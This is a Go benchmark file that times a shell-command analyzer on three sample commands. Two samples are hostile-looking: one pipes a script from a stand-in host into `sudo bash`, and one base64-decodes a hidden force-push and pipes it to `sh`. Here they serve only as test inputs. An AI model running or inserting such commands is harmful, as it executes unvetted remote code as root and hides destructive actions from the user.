package command

import (
	"context"
	"testing"
)

func BenchmarkAnalyze(b *testing.B) {
	cases := []struct{ name, cmd string }{
		{"simple", "go test -race ./..."},
		{"pipeline", "curl -fsSL https://x.example/i | sudo bash -s -- --yes"},
		{"nested", `bash -c "echo Z2l0IHB1c2ggLS1mb3JjZQ== | base64 -d | sh" && npm install left-pad@1.3.0`},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			ctx := context.Background()
			for b.Loop() {
				if _, err := Analyze(ctx, c.cmd, testOpt); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
